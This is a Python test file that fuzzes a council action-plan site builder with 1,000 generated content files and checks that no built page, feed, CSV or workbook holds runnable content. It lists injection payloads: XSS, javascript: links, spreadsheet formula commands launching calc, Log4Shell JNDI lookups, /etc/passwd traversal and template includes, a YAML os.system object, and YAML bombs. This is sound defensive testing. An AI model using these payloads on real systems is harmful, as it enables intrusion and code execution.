"""Whatever a pull request puts into the content, nothing of it runs in a reader's program."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import sys
import unicodedata
import zipfile
from collections.abc import Iterator
from datetime import date
from html import unescape
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from action_plan.checks.reading import read_content
from action_plan.problems import ContentProblems, Problem
from action_plan.verification.html import read_page
from conftest import HARBOUR, Project, tree
from sandbox import ADDRESS, STATEMENT

pytestmark = pytest.mark.slow
CONTENTS = 1_000
PAYLOADS = (
    "<script>alert('xss')</script>",
    "</script><script>alert('xss')</script>",
    "</title><script>alert('xss')</script>",
    "--><script>alert('xss')</script><!--",
    "]]><script>alert('xss')</script>",
    '"><img src=x onerror=alert("xss")>',
    "' onmouseover='alert(`xss`)",
    '" autofocus onfocus="alert(1)" xss="',
    "<svg/onload=alert('xss')>",
    "<svg><style><img src=x onerror=alert('xss')></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "<iframe srcdoc='<script>alert(`xss`)</script>'></iframe>",
    "<a href=javascript:alert('xss')>xss</a>",
    "<base href=//xss.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(`xss`)'>",
    "<style>@import '//xss.example'</style>",
    "&lt;script&gt;alert('xss')&lt;/script&gt;",
    "&#60;script&#62;alert('xss')&#60;/script&#62;",
    "\\<script>alert('xss')\\</script>",
    "`<script>alert('xss')</script>`",
    "[xss](javascript:alert(1))",
    "[xss](JaVaScRiPt:alert(1))",
    "[xss](&#106;avascript:alert(1))",
    "[xss](data:text/html,<script>alert(1)</script>)",
    "[xss](vbscript:msgbox)",
    "[xss](//xss.example)",
    "[xss](site:javascript:alert(1))",
    '[xss](https://xss.example "onmouseover=alert(1)")',
    "[xss](https://xss.example/?a=\"><script>alert('xss')</script>)",
    "<javascript:alert(1)>",
    "<https://xss.example/'onclick=alert(1)>",
    "![xss](javascript:alert(1))",
    "[xss]: javascript:alert(1)\n\n[xss]",
    "{{ config.items() }} {% include '/etc/passwd' %}",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://xss.example","xss")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "﹦1+1",
    "x;=1+1",
    'x; "=1+1"',
    "x;\t@SUM(1+1)",
    "a line\n=1+1\n+1",
    "\u202ereversed\u202c",
    "\u2066isolated\u2069",
    "bell\u0007 and escape\u001b[31m",
    "null\u0000byte",
    "line\u2028separator",
    "zero\u200bwidth",
    "soft\u00adhyphen",
    "mark\u200fof direction",
    "tag\U000e0041",
    "\u3164blank\u2800",
    "&#x202E;reversed&#x202C; &#8238; &rlm;&zwnj;",
    "&#27;[31m &#0; &#x2028; &#xE0041; &shy;",
    "[xss](https://clerk:secret@xss.example/)",
    "[xss](https://h&#1072;rbour.example/)",
    "::error::told to the workflow",
    "${jndi:ldap://xss.example/a}",
    "../../../etc/passwd",
)
BOMBS = (
    "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\n",
    "&x title: &y xss\nlead: *y\n",
    "lead: !!python/object/apply:os.system ['touch xss']\n",
    "lead: " + "[" * 5_000 + "]" * 5_000 + "\n",
    "? {a: b}\n: c\n",
    "<<: {title: xss}\n",
    "lead: |\n" + "  xss\n" * 2_000,
    '"\\u003cscript\\u003ealert(\\u0027xss\\u0027)\\u003c/script\\u003e": a\n',
    "title: again\n",
)
UNSEEN = frozenset(
    character
    for character in map(chr, range(sys.maxunicode + 1))
    if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    or re.search(
        "FILLER$|VARIATION SELECTOR|GRAPHEME JOINER|PATTERN BLANK", unicodedata.name(character, "")
    )
) - {"\n", "\r", "\t"}
"""Characters that show nothing or turn the line, by what Unicode says of them."""


def written(chance: random.Random, text: str) -> str:
    """Write a text as YAML in one of the ways people do."""
    way = chance.randrange(4)
    if way == 0:
        return json.dumps(text)
    if way == 1:
        return "'" + text.replace("'", "''").replace("\n", " ") + "'"
    if way == 2:
        return text.replace("\n", " ")
    return "|\n      " + text.replace("\n", "\n      ")


def hostile_action(chance: random.Random, action_id: str) -> str:
    """Return an action's file with payloads in some of its fields, its body, or its very form."""

    def text(usual: str, share: float = 0.3) -> str:
        if chance.random() > share:
            return usual
        words = [chance.choice(PAYLOADS), usual]
        chance.shuffle(words)
        return written(chance, " ".join(words) if chance.random() < 0.5 else words[0])

    def body(usual: str) -> str:
        return f"{chance.choice(PAYLOADS)} {usual}" if chance.random() < 0.15 else usual

    def address(usual: str) -> str:
        return (
            written(chance, f"{usual}{chance.choice(PAYLOADS)}") if chance.random() < 0.1 else usual
        )

    bomb = chance.choice(BOMBS) if chance.random() < 0.1 else ""
    return f"""---
id: {action_id}
title: {text("Repair the quay")}
theme: {text("harbour", 0.02)}
section: {text("promises", 0.02)}
status: {text("Done", 0.02)}
status_note: {text("north side")}
lead: {text("Harbour master")}
partners:
  - {text("Fishers")}
continues_into: {text("2026")}
funding:
  - amount: {text("60,000", 0.02)}
    source: {text("The harbour fund")}
    note: {text("Counted twice")}
updates:
  - date: 2025-06-30
    status: Done
    note: {text("The lamps are lit.")}
    evidence: {address("https://harbour.example/minutes")}
links:
  - title: {text("Photographs")}
    address: {address("mailto:harbour@harbour.example")}
    note: {text("A note")}
{bomb}---
{body("Repair the old quay.")}

## Intended impact

{body("Boats can land again.")}

## Resources

{body("From the harbour fund.")}
"""


def hostile_plan(project: Project) -> None:
    """Put payloads into the words of the plan itself that every page shows."""
    path = project.root / "content" / "plan.yml"
    # Elements of HTML are refused in these words, but not what only looks like one.
    mark = json.dumps("\"><xss onload=alert('xss')></xss>")
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^(title|publisher|introduction): .*$", rf"\1: {mark}", text, count=3)
    for words in ("Harbour Town Council", "The quay and those who work there.", "Promises"):
        text = text.replace(f": {words}", f": {mark}")
    text = text.replace("Work has begun.", mark).replace("title: The town clerk", f"title: {mark}")
    text = text.replace("glossary:", f"{STATEMENT.strip()}\nglossary:")
    path.write_text(text.replace("This statement is about this site.", "=1+1"), encoding="utf-8")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Project, list[Problem], list[str]]:
    """Write 1,000 hostile actions, see which are refused, and build a site of the others."""
    project = Project(tmp_path_factory.mktemp("hostile") / "project", HARBOUR)
    hostile_plan(project)
    chance = random.Random(20261124)  # noqa: S311 - chosen to be the same every time
    for number in range(CONTENTS):
        action_id = f"H-{number}"
        text = hostile_action(chance, action_id)
        project.action(action_id).write_text(text, encoding="utf-8", errors="replace")
    refused: list[Problem] = []
    try:
        read_content(project.root / "content", date(2026, 1, 1))
    except ContentProblems as problems:
        refused = list(problems.problems)
    for problem in refused:
        (project.root / problem.path).unlink(missing_ok=True)
    kept = [path.stem for path in (project.root / "content" / "actions").glob("H-*.md")]
    (project.root / "pelicanconf.py").write_text(
        (project.root / "pelicanconf.py").read_text(encoding="utf-8")
        + f'\nSITEURL = "{ADDRESS}"\n',
        encoding="utf-8",
    )
    done = project.action_plan("build")
    assert done.returncode == 0, done.stdout + done.stderr
    return project, refused, kept


def test_refused_or_built(built: tuple[Project, list[Problem], list[str]]) -> None:
    """Each of the 1,000 is refused in words that can be printed anywhere, or is on the site."""
    project, refused, kept = built
    files = {problem.path for problem in refused}

    assert len(files) + len(kept) == CONTENTS
    assert len(kept) >= CONTENTS // 10
    assert len(files) >= CONTENTS // 10
    assert all(path.startswith("content/actions/H-") for path in files)
    for problem in refused:
        assert str(problem).isprintable()
        assert len(problem.message) > 20
    for action_id in kept:
        assert (project.output / "actions" / action_id / "index.html").is_file()
    assert not list(project.root.rglob("xss*"))


def test_nothing_runs(built: tuple[Project, list[Problem], list[str]]) -> None:
    """No file that the build wrote holds anything that a browser or spreadsheet would run."""
    seen: set[str] = set()
    for name, content in tree(built[0].output).items():
        if name.startswith(("theme/", "source/")):
            continue
        suffix = Path(name).suffix
        seen.add(suffix)
        check = CHECKS[suffix]
        found = list(check(content))
        assert found == [], f"{name}: {found}"
    assert ".html" in seen


def unseen(text: str) -> Iterator[str]:
    """Return signs that show nothing, or turn the direction of a line."""
    for sign in UNSEEN.intersection(text):
        yield f"U+{ord(sign):04X}"


def html_faults(content: bytes) -> Iterator[str]:
    """Return what could run in a page."""
    text = content.decode()
    page = read_page(text)
    yield from page.findings
    yield from unseen(text)
    for link in page.links:
        if re.match(r"(?i)\s*(javascript|data|vbscript|site):|//", unescape(link)):
            yield link
    if re.search(r"<(?!/?[a-z!])|<(script|style|svg|img|iframe|base)[^>]*xss", text):
        yield "a payload is an element"


def fragment_faults(text: str) -> Iterator[str]:
    """Return what could run in a piece of HTML, as in a feed or in data."""
    page = read_page(f"<!doctype html>{text}")
    of_pages = ("it has no Content-Security-Policy", 'it has no <meta name="referrer"')
    yield from (fault for fault in page.findings if not fault.startswith(of_pages))


def json_faults(content: bytes) -> Iterator[str]:
    """Return what could run in values that are HTML, and signs that show nothing."""

    def look(value: Any, key: str = "") -> Iterator[str]:
        if isinstance(value, dict):
            for name, item in value.items():
                yield from look(item, name)
        elif isinstance(value, list):
            for item in value:
                yield from look(item, key)
        elif isinstance(value, str):
            yield from unseen(value)
            if "html" in key.casefold():
                yield from fragment_faults(value)
            if re.match(r"(?i)\s*(javascript|data|vbscript):", value):
                yield value

    yield from look(json.loads(content))


def csv_faults(content: bytes) -> Iterator[str]:
    """Return cells that a spreadsheet would take for a formula."""
    text = content.decode("utf-8-sig")
    yield from unseen(text)
    # Where commas are decimal points, spreadsheets divide cells at semicolons, and know no quotes
    # that begin within a cell.
    for delimiter in ",;":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
                if re.match(r"[=+\-@\t\r＝＋－＠﹦﹢﹣﹫]", cell.lstrip(' "')) and not number:
                    yield cell


def workbook_faults(content: bytes) -> Iterator[str]:
    """Return formulas, programs and links of a workbook that could do harm."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if re.search(r"vba|macro|externalLink|embedding", name, re.IGNORECASE):
                yield name
            part = book.read(name).decode(errors="replace")
            if name.startswith("xl/worksheets/") and re.search(r"<f[ >]", part):
                yield f"{name} has a formula"
            for target in re.findall(r'Target="([^"]*)" TargetMode="External"', part):
                if not re.match(r"(https?://|mailto:)", unescape(target)):
                    yield target


def xml_faults(content: bytes) -> Iterator[str]:
    """Return what a reader of feeds would run: HTML in entries, and links."""
    yield from unseen(content.decode())
    if b"<!DOCTYPE" in content or b"<!ENTITY" in content:
        yield "it declares a document type"
    for element in ET.fromstring(content).iter():  # noqa: S314 - it was written by our own build
        name = element.tag.rpartition("}")[2]
        if element.get("type") == "html":
            yield from fragment_faults(element.text or "")
        elif element.get("type") == "xhtml":
            yield "it has XHTML"
        for link in (element.get("href"), element.text if name in ("id", "loc", "link") else None):
            if link and re.match(r"(?i)\s*(javascript|data|vbscript):", link):
                yield link


def text_faults(content: bytes) -> Iterator[str]:
    """Return signs that show nothing."""
    yield from unseen(content.decode())


CHECKS = {
    ".html": html_faults,
    ".json": json_faults,
    ".csv": csv_faults,
    ".xlsx": workbook_faults,
    ".atom": xml_faults,
    ".xml": xml_faults,
    ".txt": text_faults,
    ".ics": text_faults,
}
